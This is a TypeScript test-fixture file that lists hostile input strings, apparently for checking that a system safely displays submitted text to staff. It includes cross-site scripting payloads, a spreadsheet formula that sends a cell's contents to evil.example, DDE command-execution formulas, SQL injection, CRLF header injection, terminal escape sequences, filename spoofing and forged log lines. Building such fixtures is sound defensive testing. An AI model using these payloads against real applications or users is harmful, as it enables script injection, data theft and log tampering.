/** Texts that try to run something in the browser, spreadsheet or terminal of staff. */

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>@import "//evil.example/a.css"; * { display: none }</style>',
  '<base href=//evil.example/>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
];
/** Prefixes that try to break out of the surrounding markup. */
const WAYS_OUT = ['', '">', "' autofocus onfocus=alert(1) x='", '</td></tr></table>', '</script>'];

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|'/c calc'!A1",
  '+1+cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '\t=1+1',
  '=1+1",=2+2,"',
];

const CONTROLS = [
  'one\ntwo\nthree',
  'one\r\nSet-Cookie: session=evil',
  'bell \u0007 and backspace \b\b\b',
  'red \u001b[31mtext\u001b[0m and title \u001b]0;owned\u0007',
  'invoice\u202efdp.exe',
  '\u2067right to left\u2066',
  '\u200bzero\u200bwidth\u200b',
  '\u2028line separator\u2029paragraph',
  '203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-" 1',
  '" 200 1 "-" "forged" 1\n203.0.113.9 - - "GET /forged',
  'Z̸̡̛͎a̷l̵g̶o̴ ',
  'ﷺ'.repeat(20),
  'W'.repeat(300),
  `${'word '.repeat(80)}`,
  '👩‍👩‍👧‍👦'.repeat(20),
  "'; DROP TABLE contactSubmissions; --",
  '%00%0d%0a%3Cscript%3E',
];

/** Formula starts after separators that put them at the start of a cell in some locale. */
const CELL_BREAKS = ['', ' ', '\t', '\r', '"', '",', ';'];
const CELL_BEGINS = ['=', '+', '-', '@', '\t=', '""=', '\u00a0='];

export const HOSTILE_CELLS: readonly string[] = [
  ...FORMULAS,
  ...CELL_BREAKS.flatMap((cellBreak) => CELL_BEGINS.map((begin) => `${cellBreak}${begin}1+1`)),
];

/** Texts that try to end a log line or field and start a forged one. */
export const HOSTILE_LINES: readonly string[] = [
  '\n',
  '\r\n',
  '\r',
  '\u0085',
  '\u2028',
  '\u000b',
  '%0a',
  '\\n',
  '\\x0A',
  '"',
  '\\"',
  '" 200 1 "-" "-" 1\n',
  '""\r\n',
  '\u0000',
  '\t',
  '\u2029',
  '"\n"',
].flatMap((end) => [
  `${end}203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET /forged HTTP/1.1" 200 1 "-" "-" 1`,
  `x${end}2026-01-01T00:00:00.000Z,203.0.113.9,GET,"/forged",200,1.000,1,"",""`,
  `x${end}200`,
  `${end}${end}"GET /forged`,
  `x${end}" 200 1 "forged" "forged" 1`,
  `x${end},203.0.113.9,`,
]);

export const HOSTILE_TEXTS: readonly string[] = [
  ...WAYS_OUT.flatMap((wayOut) => MARKUP.map((markup) => wayOut + markup)),
  ...FORMULAS,
  ...CONTROLS,
];
